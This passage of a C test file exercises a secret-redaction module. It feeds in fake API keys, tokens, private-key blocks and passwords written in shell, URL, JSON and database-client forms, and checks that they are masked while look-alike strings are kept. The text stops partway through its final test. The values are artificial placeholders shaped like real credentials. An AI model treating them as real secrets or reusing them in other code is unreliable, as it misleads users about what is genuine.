/* test-redact.c: secrets are cut out of stored text: keys, assignments,
 * the password options of commands, shell words and their quoting.
 * test-redact-json.c tries JSON documents and rendered plans.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include "pd-redact.h"
#include "pd-secret-text.h"
#include "test-redact-util.h"

static void
test_provider_keys (void)
{
  assert_redacted ("key sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz0123 end", "key [REDACTED] end", 1);
  assert_redacted ("OPENAI sk-proj-AbCdEfGhIjKlMnOpQrStUvWx_yz-0123456789", "OPENAI [REDACTED]", 1);
  assert_redacted ("old sk-AbCdEfGhIjKlMnOpQrStUvWxYz01234567.", "old [REDACTED].", 1);
  assert_redacted ("gh ghp_0123456789abcdefghijABCDEFGHIJklmnop", "gh [REDACTED]", 1);
  assert_redacted ("gho_0123456789abcdefghijABCDEFGHIJklmnop ghs_0123456789abcdefghijABCDEFGHIJklmnop",
                   "[REDACTED] [REDACTED]", 2);
  assert_redacted ("pat github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz", "pat [REDACTED]", 1);
  assert_redacted ("aws AKIAIOSFODNN7EXAMPLE and ASIAIOSFODNN7EXAMPLE", "aws [REDACTED] and [REDACTED]", 2);
  assert_redacted ("slack xoxb-1234567890-abcdefghij", "slack [REDACTED]", 1);
  assert_redacted ("google AIzaSyA-0123456789abcdefghijklmnopqrstu", "google [REDACTED]", 1);
  assert_redacted ("stripe sk_live_0123456789abcdefABCD rk_live_0123456789abcdefABCD",
                   "stripe [REDACTED] [REDACTED]", 2);
  assert_redacted ("hf hf_abcdefghijklmnopqrstuvwxyzABCDEFGH", "hf [REDACTED]", 1);
}

static void
test_bearer_and_pem (void)
{
  assert_redacted ("Authorization: Bearer abc.DEF-123_xyz~+/==", "Authorization: Bearer [REDACTED]", 1);
  assert_redacted ("authorization: bearer abcdefgh1234", "authorization: bearer [REDACTED]", 1);
  /* Too short to be a token: prose about bearers stays. */
  assert_redacted ("the Bearer of news", "the Bearer of news", 0);

  assert_redacted ("before\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabc+/=\n-----END RSA PRIVATE KEY-----\nafter",
                   "before\n[REDACTED]\nafter", 1);
  assert_redacted ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaA==\n-----END OPENSSH PRIVATE KEY-----",
                   "[REDACTED]", 1);
  /* A public key is not a secret; an unterminated block is left alone
   * rather than eating the rest of the text. */
  assert_redacted ("-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
                   "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----", 0);
}

static void
test_assignments (void)
{
  assert_redacted ("password=hunter2", "password=[REDACTED]", 1);
  assert_redacted ("PASSWD: hunter2 next", "PASSWD: [REDACTED] next", 1);
  assert_redacted ("secret=abc&x=1", "secret=[REDACTED]&x=1", 1);
  assert_redacted ("https://h/?token=abc123&page=2", "https://h/?token=[REDACTED]&page=2", 1);
  assert_redacted ("api_key=XYZ apikey: XYZ API-KEY=XYZ", "api_key=[REDACTED] apikey: [REDACTED] API-KEY=[REDACTED]", 3);
  assert_redacted ("client_secret = s3cr3t", "client_secret = [REDACTED]", 1);
  assert_redacted ("{\"password\": \"hunter2\"}", "{\"password\": \"[REDACTED]\"}", 1);
  /* The name's last word says what it is: DB_PASSWORD is a password. */
  assert_redacted ("export DB_PASSWORD='pw'", "export DB_PASSWORD='[REDACTED]'", 1);
}

/* Secrets as people write them in .env files, shells, configs, headers and
 * URLs (values shaped like real ones, none real).  Each must be gone, with
 * the name, the scheme or the URL around it kept. */
static void
test_env_secrets (void)
{
  static const RedactCase cases[] = {
    { "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
      "AWS_SECRET_ACCESS_KEY=[REDACTED]", "wJalrXUtnFEMI" },
    { "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE", "AWS_ACCESS_KEY_ID=[REDACTED]", "AKIAIOSFODNN7EXAMPLE" },
    { "DATABASE_PASSWORD=correct-horse-battery", "DATABASE_PASSWORD=[REDACTED]", "correct-horse" },
    { "DB_PASSWORD=hunter2", "DB_PASSWORD=[REDACTED]", "hunter2" },
    { "export DATABASE_PASSWORD=\"correct horse battery\"", "export DATABASE_PASSWORD=\"[REDACTED]\"", "horse" },
    { "GITLAB_TOKEN=glpat-Ab1Cd2Ef3Gh4Ij5Kl6Mn", "GITLAB_TOKEN=[REDACTED]", "glpat-" },
    { "ci: glpat-Ab1Cd2Ef3Gh4Ij5Kl6Mn", "ci: [REDACTED]", "glpat-" },
    { "NPM_TOKEN=npm_Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Y", "NPM_TOKEN=[REDACTED]", "npm_Ab1" },
    { "//registry.npmjs.org/:_authToken=npm_Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Y",
      "//registry.npmjs.org/:_authToken=[REDACTED]", "npm_Ab1" },
    { "OPENAI_API_KEY=sk-short1", "OPENAI_API_KEY=[REDACTED]", "sk-short1" },
    { "ANTHROPIC_API_KEY: x1", "ANTHROPIC_API_KEY: [REDACTED]", "x1" },
    { "SECRET_KEY_BASE=8f7e6d5c4b3a", "SECRET_KEY_BASE=[REDACTED]", "8f7e6d" },
    { "STRIPE_SECRET=whsec_abc123", "STRIPE_SECRET=[REDACTED]", "whsec_" },
    { "GOOGLE_APPLICATION_CREDENTIALS_JSON=eyJ0eXBlIjoic2VydmljZV9hY2NvdW50In0",
      "GOOGLE_APPLICATION_CREDENTIALS_JSON=[REDACTED]", "eyJ0eXBl" },
    { "postgres://app:s3cr3t@db.internal:5432/app", "postgres://app:[REDACTED]@db.internal:5432/app", "s3cr3t" },
    { "DATABASE_URL=mysql://root:p%40ss@localhost/db", "DATABASE_URL=mysql://root:[REDACTED]@localhost/db", "p%40ss" },
    { "git clone https://x-access-token:abc123def@github.com/o/r.git",
      "git clone https://x-access-token:[REDACTED]@github.com/o/r.git", "abc123def" },
    { "redis://:hunter2@cache:6379/0", "redis://:[REDACTED]@cache:6379/0", "hunter2" },
    /* Found unredacted, tried as an attacker would. */
    { "GROQ key gsk_Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Yz3Ab4Cd5Ef6Gh7Ij8K",
      "GROQ key [REDACTED]", "gsk_Ab1" },
    { "docker login -p dckr_pat_Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9", "docker login -p [REDACTED]", "dckr_pat_" },
    { "machine api.example.com login me password s3cr3t-pw", "machine api.example.com login me password [REDACTED]",
      "s3cr3t-pw" },
    { "SENTRY_DSN is https://0123456789abcdef0123456789abcdef@o1.ingest.sentry.io/2",
      "SENTRY_DSN is https://[REDACTED]@o1.ingest.sentry.io/2", "0123456789abcdef0123456789abcdef" },
    { "git remote add origin https://ghx0123456789abcdefghij1234@github.com/o/r.git",
      "git remote add origin https://[REDACTED]@github.com/o/r.git", "ghx0123456789" },
    { "Authorization: Basic dXNlcjpwYXNzd29yZA==", "Authorization: Basic [REDACTED]", "dXNlcjpw" },
    { "curl -H \"authorization: token ghs_shorttoken\" https://api",
      "curl -H \"authorization: token [REDACTED]\" https://api", "ghs_short" },
    { "Proxy-Authorization: Basic Zm9vOmJhcg==", "Proxy-Authorization: Basic [REDACTED]", "Zm9vOmJhcg" },
    { "curl -u admin:s3cr3t https://h/", "curl -u admin:[REDACTED] https://h/", "s3cr3t" },
    { "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
      "https://hooks.slack.com/services/[REDACTED]", "XXXXXXXX" },
    { "https://discord.com/api/webhooks/123456789012345678/abcDEF-ghiJKL_mno",
      "https://discord.com/api/webhooks/[REDACTED]", "abcDEF" },
    { "slack xapp-1-A0123456789-0123456789012-abcdef", "slack [REDACTED]", "xapp-1" },
    { "slack xoxp-0123456789-abcdefghij", "slack [REDACTED]", "xoxp-" },
    { "jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
      "jwt [REDACTED]", "eyJzdWIi" },
    { "pypi-AgEIcHlwaS5vcmcCJGE4ZmY0NjQyLTY3NzEtNGQ2Zi1hMzU1LTk4ZDBkZWUwNDJmYwACKlszLCI",
      "[REDACTED]", "pypi-AgE" },
    { "mongosh -u root --password hunter2 db", "mongosh -u root --password [REDACTED] db", "hunter2" },
    { "gh auth login --with-token --token=ghx_abc12345", "gh auth login --with-token --token=[REDACTED]", "ghx_abc" },
    { "{\"apiKey\": \"abc123\", \"clientSecret\": \"def456\"}",
      "{\"apiKey\": \"[REDACTED]\", \"clientSecret\": \"[REDACTED]\"}", "def456" },
    { "headers: { 'X-Api-Key': 'k3y-v4lue' }", "headers: { 'X-Api-Key': '[REDACTED]' }", "k3y-v4lue" },
    { "password := \"hunter2\"", "password := \"[REDACTED]\"", "hunter2" },
    { "db.password: s3cr3t", "db.password: [REDACTED]", "s3cr3t" },
  };

  assert_cases (cases, G_N_ELEMENTS (cases), FALSE);
}

/* Look-alikes: names that hold KEY, TOKEN, AUTH or PASS without naming a
 * secret, token counts, URLs without userinfo, prose.  Nothing goes. */
static void
test_look_alikes (void)
{
  static const char * const texts[] = {
    "KEYBOARD_LAYOUT=us",
    "monkey=1 donkey: 2 turkey=3",
    "author: Jane Doe",
    "git commit --author \"Jane <j@example.org>\"",
    "TOKENIZER=bpe",
    "max_tokens=4096 input_tokens: 12 output_tokens=3 maxTokens: 100",
    "\"max_tokens\": 4096, \"cache_read_input_tokens\": 0",
    "token_count=12 token_limit: 8000 password_min_length=12 auth_type=oauth",
    "sort_key=name primary_key: id partition_key=user_id cache_key: abc",
    "next_token=eyJ0 page_token: 7 eos_token: </s> pad_token=<pad>",
    "key: ArrowUp",
    "PWD=/home/user/src OLDPWD=/home/user",
    "https://example.com/docs?page=2#install and http://localhost:8080/api",
    "git@github.com:org/repo.git",
    "if token == expected: return api_key != None",
    "token = os.environ[\"GITHUB_TOKEN\"]; key = get_key(user)",
    "password: ${DB_PASSWORD} secret=$SECRET token=%(token)s",
    "auth: none, secret: false, password: null",
    "The password field is required. Tokens are counted per request.",
    "risk-assessment sk-learn-compatible-estimator task-based",
    "ghp_short hf_short sk-short AKIA1234 glpat-short npm_short",
    "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
    "the author's keyboard shortcut: Ctrl+K",
  };

  assert_kept (texts, G_N_ELEMENTS (texts));
}

/* Database clients' spellings, tried as an attacker would: MySQL's
 * password glued to -p, --password=, libpq's PGPASSWORD and a database
 * URL's password.  Each must be gone, the command around it kept (-pSECRET
 * once cost the database name after it, and kept the password). */
static void
test_database_clients (void)
{
  static const RedactCase cases[] = {
    { "mysql -uroot -pGluedPw4Mysql shop", "mysql -uroot -p[REDACTED] shop", "GluedPw4Mysql" },
    { "mysql -u root -pSECRET db", "mysql -u root -p[REDACTED] db", "SECRET" },
    { "/usr/bin/mysqldump -u app -p'two words' shop > dump.sql",
      "/usr/bin/mysqldump -u app -p'[REDACTED]' shop > dump.sql", "two words" },
    { "docker exec db mariadb -uroot -p\"Ma5ria\" -e 'select 1'",
      "docker exec db mariadb -uroot -p\"[REDACTED]\" -e 'select 1'", "Ma5ria" },
    { "cd /srv && mariadb-dump -pDumpPw9 --all-databases",
      "cd /srv && mariadb-dump -p[REDACTED] --all-databases", "DumpPw9" },
    { "sshpass -pSshPw1 ssh deploy@host", "sshpass -p[REDACTED] ssh deploy@host", "SshPw1" },
    { "mysql --password=EqPw5Mysql shop", "mysql --password=[REDACTED] shop", "EqPw5Mysql" },
    { "PGPASSWORD=PgPw6Env psql -h db app", "PGPASSWORD=[REDACTED] psql -h db app", "PgPw6Env" },
    { "export PGPASSWORD='pg pw 6'", "export PGPASSWORD='[REDACTED]'", "pg pw" },
    { "{\"env\": {\"PGPASSWORD\": \"PgJson7\"}}", "{\"env\": {\"PGPASSWORD\": \"[REDACTED]\"}}", "PgJson7" },
    { "MYSQL_PWD=MyPwd8 mysql shop", "MYSQL_PWD=[REDACTED] mysql shop", "MyPwd8" },
    { "mysql://appuser:UrlPw7Mysql@db.internal/shop", "mysql://appuser:[REDACTED]@db.internal/shop",
      "UrlPw7Mysql" },
    { "psql \"postgresql://app:PgUrl8@db:5432/app?sslmode=require\"",
      "psql \"postgresql://app:[REDACTED]@db:5432/app?sslmode=require\"", "PgUrl8" },
  };
  /* What stays: -p of other commands, MySQL's -p that asks, references. */
  static const char * const kept[] = {
    "mysql -p shop",
    "mysql -uroot -p -e 'show databases'",
    "cp -pr src dst; ssh -p2222 host; git log -p1; docker run -p8080:80 img; mkdir -p out",
    "mysql -uroot; tar -pxf a.tar",
    "mysql -p$MYSQL_ROOT_PASSWORD shop",
    "%wheel ALL=(ALL) NOPASSWD: ALL",
    "PGPASSFILE=/home/u/.pgpass psql",
  };

  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* Found (tried as an attacker would, a second time): quoted option values
 * (--password='…', --password="…", --password "…"), bash's ANSI-C
 * quoting ($'…') around a secret, a -p after grouped flags (mysql -vpX),
 * redis-cli's -a and --pass and sshpass's -p with a space were all stored
 * as written.  Each is gone and the command around it kept; the same
 * options of other commands (ls -a, cp -a, ssh -p2222) stay. */
static void
test_command_options (void)
{
  static const RedactCase cases[] = {
    { "mysql --password='QuotePw9' shop", "mysql --password='[REDACTED]' shop", "QuotePw9" },
    { "mysql --password=\"Dq Pw 10\" shop", "mysql --password=\"[REDACTED]\" shop", "Dq Pw" },
    { "mongosh --password \"DquotePw10\" shop", "mongosh --password \"[REDACTED]\" shop", "DquotePw10" },
    { "{\"command\": \"mongosh --password \\\"JsonPw\\\" shop\"}",
      "{\"command\": \"mongosh --password \\\"[REDACTED]\\\" shop\"}", "JsonPw" },
    { "mysql -uroot -p$'AnsiPw11' shop", "mysql -uroot -p$'[REDACTED]' shop", "AnsiPw11" },
    { "PGPASSWORD=$'AnsiPg12' psql app", "PGPASSWORD=$'[REDACTED]' psql app", "AnsiPg12" },
    { "export DB_PASSWORD=$\"two words\"", "export DB_PASSWORD=$\"[REDACTED]\"", "two words" },
    { "mysql --password=$'AnsiEq' shop", "mysql --password=$'[REDACTED]' shop", "AnsiEq" },
    { "mysql -vpGroupPw13 shop", "mysql -vp[REDACTED] shop", "GroupPw13" },
    { "mysql -uroot -vpX shop", "mysql -uroot -vp[REDACTED] shop", "-vpX" },
    { "mariadb -BNvp'grouped pw' -e 'select 1'", "mariadb -BNvp'[REDACTED]' -e 'select 1'", "grouped pw" },
    { "redis-cli -a RedisPw14 ping", "redis-cli -a [REDACTED] ping", "RedisPw14" },
    { "redis-cli -h cache -p 6380 -a 'Redis Pw' get k", "redis-cli -h cache -p 6380 -a '[REDACTED]' get k",
      "Redis Pw" },
    { "/usr/bin/redis-cli --pass RedisPw15 ping", "/usr/bin/redis-cli --pass [REDACTED] ping", "RedisPw15" },
    { "valkey-cli -a ValkeyPw info", "valkey-cli -a [REDACTED] info", "ValkeyPw" },
    { "sshpass -p SshSpacedPw16 ssh deploy@host", "sshpass -p [REDACTED] ssh deploy@host", "SshSpacedPw16" },
    { "sshpass -vpSshGrouped ssh host", "sshpass -vp[REDACTED] ssh host", "SshGrouped" },
  };
  static const char * const kept[] = {
    "cp -pr src dst; ssh -p2222 host; docker run -p8080:80 img",
    "ls -a; cp -a src dst; tar -a -cf out.tgz dir; redis-cli ping",
    "ls -la /srv && redis-cli -h cache ping",
    "mysql -uprod shop",
    "mysql -uroot -vp -e 'show databases'",
    "mysql -p shop",
    "mysql -p$MYSQL_ROOT_PASSWORD shop",
    "redis-cli -a $REDIS_PASSWORD ping",
    "redis-cli -p 6380 ping",
    "mysql --password=$DB_PASSWORD shop",
    "rsync -avp src/ dst/",
    "grep -a pattern file; git add -p; ssh -p 22 host",
  };

  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* Found (tried as an attacker would, a third time): a single-quoted value
 * starting with $ was kept as a variable (in '…' the shell reads $ as
 * text), a client quoted for another shell (ssh host "mysql -pX") was not
 * found, docker and podman login's -p, --pass= (a prefix of --password
 * that mysql takes) and pass= were stored as written, and a value holding
 * an escape (a\ b, "a\"b") was masked only up to its backslash.  Each is
 * gone whole; the same options elsewhere stay. */
static void
test_command_spellings (void)
{
  static const RedactCase cases[] = {
    { "mysql --password='$ecr3tPw' shop", "mysql --password='[REDACTED]' shop", "ecr3tPw" },
    { "mysql -uroot -p'$xPw1' shop", "mysql -uroot -p'[REDACTED]' shop", "xPw1" },
    { "mysql -p$'$AnsiLit' shop", "mysql -p$'[REDACTED]' shop", "AnsiLit" },
    { "export DB_PASSWORD='$dollarPw'", "export DB_PASSWORD='[REDACTED]'", "dollarPw" },
    { "ssh host \"mysql -pSshMy1 shop\"", "ssh host \"mysql -p[REDACTED] shop\"", "SshMy1" },
    { "ssh db.internal 'mysql -uroot -pSshMy2'", "ssh db.internal 'mysql -uroot -p[REDACTED]'", "SshMy2" },
    { "bash -c 'PGPASSWORD=BashPg3 psql app'", "bash -c 'PGPASSWORD=[REDACTED] psql app'", "BashPg3" },
    { "sh -c \"mysql --password=ShMy4 shop\"", "sh -c \"mysql --password=[REDACTED] shop\"", "ShMy4" },
    { "sh -c \"cd /srv && /usr/bin/mariadb -vpShMa5\"", "sh -c \"cd /srv && /usr/bin/mariadb -vp[REDACTED]\"", "ShMa5" },
    { "{\"command\": \"ssh h \\\"mysql -pJsonSsh6\\\"\"}", "{\"command\": \"ssh h \\\"mysql -p[REDACTED]\\\"\"}",
      "JsonSsh6" },
    { "docker login -p DockPw7 registry.example.com", "docker login -p [REDACTED] registry.example.com", "DockPw7" },
    { "docker login -u me -pDockPw8 registry", "docker login -u me -p[REDACTED] registry", "DockPw8" },
    { "docker login --password DockPw9 registry", "docker login --password [REDACTED] registry", "DockPw9" },
    { "podman login -u me -p 'Pod Pw 10' quay.io", "podman login -u me -p '[REDACTED]' quay.io", "Pod Pw" },
    { "mysql --pass=PassPw11 shop", "mysql --pass=[REDACTED] shop", "PassPw11" },
    { "tool --pass=PassPw12", "tool --pass=[REDACTED]", "PassPw12" },
    { "mysql --passwd=PasswdPw13 shop", "mysql --passwd=[REDACTED] shop", "PasswdPw13" },
    { "curl -d user=me -d pass=FormPw14 https://h/login", "curl -d user=me -d pass=[REDACTED] https://h/login",
      "FormPw14" },
    { "SMTP_PASS=SmtpPw15 ./send", "SMTP_PASS=[REDACTED] ./send", "SmtpPw15" },
    { "mysql --password=Esc\\ Pw16 shop", "mysql --password=[REDACTED] shop", "Pw16" },
    { "mysql --password=\"Esc\\\"Pw17\" shop", "mysql --password=\"[REDACTED]\" shop", "Pw17" },
    { "mysql --password=\"it's Pw18\" shop", "mysql --password=\"[REDACTED]\" shop", "s Pw18" },
    { "mysql --password='back\\slash Pw19' shop", "mysql --password='[REDACTED]' shop", "slash Pw19" },
    { "mysql -p$'ansi\\'Pw20' shop", "mysql -p$'[REDACTED]' shop", "Pw20" },
    { "{\"content\": \"A=1\\nmysql -uroot -pJsonNl21 shop\\n\"}",
      "{\"content\": \"A=1\\nmysql -uroot -p[REDACTED] shop\\n\"}", "JsonNl21" },
  };
  static const char * const kept[] = {
    "ls -a; cp -pr src dst; ssh -p2222 host; docker run -p 8080:80 img; git log -p",
    "docker run -p8080:80 -p 443:443 img; podman run -p 8080:80 img",
    "docker login --password-stdin registry.example.com",
    "gpg --batch --passphrase-fd 0 --decrypt f.gpg",
    "ssh -p 2222 host \"ls -a\"",
    "bash -c 'mysql -p shop'",
    "mysql --password=\"$DB_PASSWORD\" shop",
    "mysql -p$MYSQL_PWD shop",
    "PASS: test-redact 1 /pd/redact/name-rule",
    "first_pass=1 pass_count=3 --pass-through on render_pass: 2",
    "{\"env\": \"A=1\\nB=2\"}",
  };

  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* Found (tried as an attacker would, a fourth time, on the real binaries):
 * a client named in quotes ("mysql" -pX: the shell reads the word as
 * mysql), docker login's -p=X, the login of nerdctl, buildah, skopeo and
 * helm registry, curl's -u glued to its user:password, openssl's pass
 * phrase arguments (-passin pass:X) and a value of joined empty quotes
 * (PGPASSWORD='''X''') were stored as written.  Each is gone; the same
 * options that hold no secret stay. */
static void
test_command_clients (void)
{
  static const RedactCase cases[] = {
    { "\"mysql\" -pQuotedCli1 shop", "\"mysql\" -p[REDACTED] shop", "QuotedCli1" },
    { "'mysql' -uroot -pQuotedCli2 shop", "'mysql' -uroot -p[REDACTED] shop", "QuotedCli2" },
    { "'/usr/bin/mariadb' -vpQuotedCli3", "'/usr/bin/mariadb' -vp[REDACTED]", "QuotedCli3" },
    { "m'ysql' -pJoinedCli4 shop", "m'ysql' -p[REDACTED] shop", "JoinedCli4" },
    { "'sshpass' -p QuotedSsh5 ssh h", "'sshpass' -p [REDACTED] ssh h", "QuotedSsh5" },
    { "\"redis-cli\" -a QuotedRedis6 ping", "\"redis-cli\" -a [REDACTED] ping", "QuotedRedis6" },
    { "\"docker\" login -p QuotedDock7 reg", "\"docker\" login -p [REDACTED] reg", "QuotedDock7" },
    { "docker login -p=DockEq8 reg", "docker login -p=[REDACTED] reg", "DockEq8" },
    { "docker login --password=DockEq9 reg", "docker login --password=[REDACTED] reg", "DockEq9" },
    { "nerdctl login -u me -p Nerd10 reg", "nerdctl login -u me -p [REDACTED] reg", "Nerd10" },
    { "buildah login -u me -pBuildah11 quay.io", "buildah login -u me -p[REDACTED] quay.io", "Buildah11" },
    { "skopeo login -p=Skopeo12 quay.io", "skopeo login -p=[REDACTED] quay.io", "Skopeo12" },
    { "skopeo login --password Skopeo13 quay.io", "skopeo login --password [REDACTED] quay.io", "Skopeo13" },
    { "helm registry login -u me -p Helm14 reg", "helm registry login -u me -p [REDACTED] reg", "Helm14" },
    { "helm registry login --password=Helm15 reg", "helm registry login --password=[REDACTED] reg", "Helm15" },
    { "curl -uadmin:CurlGlued16 https://h", "curl -uadmin:[REDACTED] https://h", "CurlGlued16" },
    { "curl -s -uadmin:pa:ss17 https://h", "curl -s -uadmin:[REDACTED] https://h", "ss17" },
    { "openssl pkcs12 -in a.p12 -passin pass:Ossl18 -nokeys", "openssl pkcs12 -in a.p12 -passin pass:[REDACTED] -nokeys",
      "Ossl18" },
    { "openssl rsa -in k.pem -passout pass:Ossl19 -aes256", "openssl rsa -in k.pem -passout pass:[REDACTED] -aes256",
      "Ossl19" },
    { "openssl enc -aes256 -pass pass:Ossl20 -in f", "openssl enc -aes256 -pass pass:[REDACTED] -in f", "Ossl20" },
    { "openssl enc -pass 'pass:Ossl 21' -in f", "openssl enc -pass 'pass:[REDACTED]' -in f", "Ossl 21" },
    { "PGPASSWORD='''TripleQ22''' psql app", "PGPASSWORD=[REDACTED] psql app", "TripleQ22" },
  };
  static const char * const kept[] = {
    "curl -u admin https://h; curl -uadmin https://h",
    "docker run -u1000:1000 img",
    "openssl enc -pass env:OSSL_PW -in f; openssl rsa -passin file:/run/pw -passout stdin",
    "openssl pkcs12 -passin fd:3 -in a.p12; openssl enc -pass stdin",
    "helm registry login --password-stdin reg; nerdctl login --password-stdin reg",
    "skopeo login -p= reg; docker login -p $REG_PW reg",
    "\"ssh\" -p2222 host; 'cp' -pr a b; \"ls\" -a",
  };

  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* Found (tried as an attacker would, a fourth time): a value the shell
 * joins of quoted and unquoted parts (-p"a"b, --password='a'"b",
 * PGPASSWORD=a"b c"d) was masked up to its first quote, and curl -u
 * 'user:a b' up to the space.  The whole shell word goes; a quote that
 * closes a command quoted for another shell, or a JSON string, is no part
 * of it. */
static void
test_joined_words (void)
{
  static const RedactCase cases[] = {
    { "mysql -p\"a\"bJoin1 shop", "mysql -p[REDACTED] shop", "bJoin1" },
    { "mysql --password='a'\"bJoin2\" shop", "mysql --password=[REDACTED] shop", "bJoin2" },
    { "PGPASSWORD=a\"b c\"dJoin3 psql app", "PGPASSWORD=[REDACTED] psql app", "dJoin3" },
    { "export DB_PASSWORD=\"a b\"'cJoin4'", "export DB_PASSWORD=[REDACTED]", "cJoin4" },
    { "sshpass -p'a'bJoin5 ssh h", "sshpass -p[REDACTED] ssh h", "bJoin5" },
    { "mysql -p$'a\\'b'cJoin6 shop", "mysql -p[REDACTED] shop", "cJoin6" },
    { "{\"command\": \"mysql -p\\\"a\\\"bJson7 shop\"}", "{\"command\": \"mysql -p[REDACTED] shop\"}", "bJson7" },
    { "curl -u 'admin:a bCurl8' https://h", "curl -u 'admin:[REDACTED]' https://h", "bCurl8" },
    { "curl -u \"admin:a bCurl9\" https://h", "curl -u \"admin:[REDACTED]\" https://h", "bCurl9" },
    { "curl --user='admin:a bCurl10' https://h", "curl --user='admin:[REDACTED]' https://h", "bCurl10" },
    /* The quote after the value closes an outer quote: not joined. */
    { "ssh h \"mysql -pOuter11\" && ssh h \"ls\"", "ssh h \"mysql -p[REDACTED]\" && ssh h \"ls\"", "Outer11" },
    { "bash -c 'mysql -p\"Outer12\"'; bash -c 'ls'", "bash -c 'mysql -p\"[REDACTED]\"'; bash -c 'ls'", "Outer12" },
    { "{\"a\": \"mysql -pJson13\",\"b\":\"c\"}", "{\"a\": \"mysql -p[REDACTED]\",\"b\":\"c\"}", "Json13" },
  };
  static const char * const kept[] = {
    "PGPASSWORD=\"$PGPW\"'' psql app",
    "mysql -p\"$PW\"x shop",
    "mysql -p\"x\"$(cat /tmp/pw) shop",
    "{\"argv\": [\"mysql\", \"-p\", \"shop\"], \"env\": \"PGPASSWORD=\"}",
  };

  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* Found (tried as a new user would): pass= read as a password where it is
 * a count or a step (a test summary's pass=12 fail=0, x264's --pass=2,
 * ffmpeg's -pass 1) or a longer name of something else (nginx's
 * proxy_pass and its kin name the upstream).  Those stay; db_pass,
 * smtp_pass and a pass= that is no number are still masked. */
static void
test_pass_look_alikes (void)
{
  static const RedactCase cases[] = {
    { "db_pass=DbPass1", "db_pass=[REDACTED]", "DbPass1" },
    { "SMTP_PASS: SmtpPass2", "SMTP_PASS: [REDACTED]", "SmtpPass2" },
    { "curl -d pass=12ab3 https://h", "curl -d pass=[REDACTED] https://h", "12ab3" },
    { "redis-cli --pass 123456 ping", "redis-cli --pass [REDACTED] ping", "123456" },
    { "db_pass=4242", "db_pass=[REDACTED]", "4242" },
    { "mysql --pass=1234 shop", "mysql --pass=[REDACTED] shop", "1234" },
    { "pass=4711 user=root", "pass=[REDACTED] user=root", "4711" },
  };
  static const char * const kept[] = {
    "pass=12 fail=0 skip=1",
    "# TOTAL: 14 PASS=12 FAIL=2",
    "x264 --pass=2 -o out.264 in.y4m; x264 --pass 1 in.y4m",
    "ffmpeg -i in.mp4 -pass 1 -f null /dev/null",
    "proxy_pass=http://backend",
    "proxy_pass http://backend;",
    "location / { proxy_pass http://127.0.0.1:8080; }",
    "fastcgi_pass unix:/run/php/php-fpm.sock; uwsgi_pass=127.0.0.1:3031; grpc_pass: grpc://b:9000",
  };

  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* The rule, name by name (pd-redact.h). */
static void
test_name_rule (void)
{
  static const char * const secret[] = {
    "password", "PASSWORD", "db_password", "DbPassword", "passwd", "DB_PWD", "passphrase",
    "secret", "client_secret", "clientSecret", "SECRET_KEY_BASE", "aws_secret_access_key",
    "credentials", "GOOGLE_CREDENTIALS", "creds", "token", "access_token", "GITLAB_TOKEN",
    "authToken", "X-Auth-Token", "auth", "basic_auth", "api_key", "apiKey", "APIKey", "apikey",
    "API-KEY", "x-api-key", "OPENAI_API_KEY", "private_key", "signing_key", "license_key",
    "csrf_token", "db_pass", "SMTP_PASS", "userPass", "PROXY_PASS", "GRPC_PASS",
  };
  static const char * const not_secret[] = {
    "key", "keyboard", "KEYBOARD_LAYOUT", "monkey", "hotkey", "author", "authority", "oauth",
    "tokenizer", "TOKENIZER", "tokens", "max_tokens", "maxTokens", "input_tokens", "token_count",
    "tokenCount", "next_token", "page_token", "eos_token", "token_type", "auth_type", "auth_url",
    "authDomain", "key_id", "sort_key", "primary_key", "partition_key", "public_key", "password_min_length",
    "password_file", "passwordFile", "secret_name", "PWD", "OLDPWD", "credential_path",
    "first_pass", "pass_count", "render_pass", "pass_through", "password_stdin", "passphrase_fd",
    "proxy_pass", "fastcgi_pass", "uwsgi_pass", "scgi_pass", "grpc_pass", "memcached_pass",
    "RESTIC_PASSWORD_COMMAND", "password_command", "PASSWORD_CMD", "credential.helper",
    "credential_process", "credsStore", "credHelpers", "secret_program",
  };

  for (guint i = 0; i < G_N_ELEMENTS (secret); i++)
    {
      g_autofree char *input = g_strdup_printf ("%s=v4lue", secret[i]);
      g_autofree char *expected = g_strdup_printf ("%s=[REDACTED]", secret[i]);

      assert_redacted (input, expected, 1);
    }
  for (guint i = 0; i < G_N_ELEMENTS (not_secret); i++)
    {
      g_autofree char *input = g_strdup_printf ("%s=v4lue", not_secret[i]);

      assert_redacted (input, input, 0);
    }
}

static void
test_no_false_positives (void)
{
  static const char * const texts[] = {
    "a task-based approach with a skeleton key",
    "the token count is high; passwords are hashed",
